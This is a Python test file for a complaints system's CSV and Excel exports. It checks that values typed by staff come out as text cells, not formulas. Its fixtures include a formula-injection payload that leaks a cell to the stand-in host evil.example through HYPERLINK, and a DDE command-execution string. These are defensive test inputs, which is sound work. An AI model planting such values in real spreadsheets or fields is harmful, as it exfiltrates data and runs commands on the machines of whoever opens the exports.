"""Names typed by staff reach every export as text, never as a formula a spreadsheet runs.

A unit or officer named ``=HYPERLINK("http://evil.example/?leak="&A2,"Klik")`` would, opened
in a spreadsheet, send the neighbouring cell away; so would a decree number in the
inspectorate's sheet of every office.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from tanggap.extensions import db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _assert_text_only(body: bytes, expected: str) -> None:
    """The workbook holds ``expected`` as a text cell, and no sheet holds a formula."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
    cells = [cell for sheet in load_workbook(io.BytesIO(body)).worksheets for row in sheet.iter_rows()
             for cell in row if cell.value == expected]
    assert cells and all(cell.data_type in ("s", "inlineStr") for cell in cells)


def _evil_office(make, ctx):
    from tanggap.complaints.models import Complaint
    from tanggap.tenancy.context import bound_to
    from tanggap.tenancy.models import Tenant

    office = make.office_with_staff("dinas-alpha")
    officer = make.officer(office, name=EVIL, unit="@SUM(1+1)*cmd|' /C calc'!A0")
    sanctioned = make.sanctioned(office, officer.id)
    with ctx():
        with bound_to(db.session.get(Tenant, office.tenant.id)):
            db.session.execute(select(Complaint).where(Complaint.id == sanctioned.complaint.id)).scalar_one() \
                .unit_id = officer.unit_id
            db.session.commit()
    return office


def test_dashboard_csv_exports_write_a_formula_as_text(make, ctx, new_visitor):
    _evil_office(make, ctx)
    leader = new_visitor()
    leader.login("leader@dinas-alpha.example")
    officers = leader.get("/dinas-alpha/staff/reports/export/officers.csv")
    units = leader.get("/dinas-alpha/staff/reports/export/units.csv")
    assert officers.status_code == units.status_code == 200 and officers.mimetype == "text/csv"
    assert "'" + EVIL in _csv_cells(officers.data) and EVIL not in _csv_cells(officers.data)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in _csv_cells(units.data)
    assert "1" in _csv_cells(officers.data)  # counts stay numbers, untouched


def test_dashboard_workbook_writes_a_formula_as_text(make, ctx, new_visitor):
    _evil_office(make, ctx)
    leader = new_visitor()
    leader.login("leader@dinas-alpha.example")
    book = leader.get("/dinas-alpha/staff/reports/export/all.xlsx")
    assert book.status_code == 200 and book.mimetype == XLSX
    _assert_text_only(book.data, EVIL)
    officers = load_workbook(io.BytesIO(book.data))["officers"]
    assert [cell.value for cell in officers[2]] == [EVIL, 1]  # the count is still a number


def test_the_complaints_export_job_writes_text_cells(make, ctx, new_visitor):
    from tanggap.complaints.models import Complaint
    from tanggap.tenancy.context import bound_to
    from tanggap.tenancy.models import Tenant

    office = make.office_with_staff("dinas-alpha")
    filed = make.complaint(office)
    with ctx():
        with bound_to(db.session.get(Tenant, office.tenant.id)):
            db.session.get(Complaint, filed.id).components = ["=1+2"]  # a code written by an older decree
            db.session.commit()
    leader = new_visitor()
    leader.login(office.leader.email)
    started = leader.submit("/dinas-alpha/staff/reports/exports", {}, page="/dinas-alpha/staff/reports/")
    download = leader.get(started.headers["Location"].split("?")[0] + "/file")
    assert download.status_code == 200
    _assert_text_only(download.data, "=1+2")


def test_the_inspectorate_sheet_writes_a_decree_number_as_text(make, new_visitor):
    office = make.office_with_staff("dinas-alpha", region="kota-alpha")
    office.decree_version = make.draft_decree(office.tenant, number=EVIL)
    make.complaint(office)
    inspector = make.inspector("kota-alpha")
    visitor = new_visitor()
    visitor.login(inspector.email)
    sheet = visitor.get("/inspektorat/export.csv")
    assert sheet.status_code == 200
    assert "'" + EVIL in _csv_cells(sheet.data) and EVIL not in _csv_cells(sheet.data)
    book = visitor.get("/inspektorat/export.xlsx")
    assert book.status_code == 200
    _assert_text_only(book.data, EVIL)
